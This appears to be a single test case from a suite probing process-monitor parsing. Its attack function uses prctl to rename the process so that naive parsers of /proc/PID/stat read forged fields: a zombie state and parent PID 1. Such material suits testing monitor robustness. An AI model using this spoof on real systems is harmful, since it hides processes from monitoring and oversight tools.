# id: CR-20
# kind: processes and memory
# where: call
# status: passed
def attack():
    """Who cuts /proc/PID/stat at blanks takes this process for a child of process 1 that uses nothing."""
    import ctypes
    ctypes.CDLL(None).prctl(15, b") Z 1 1 1 1\n", 0, 0, 0)
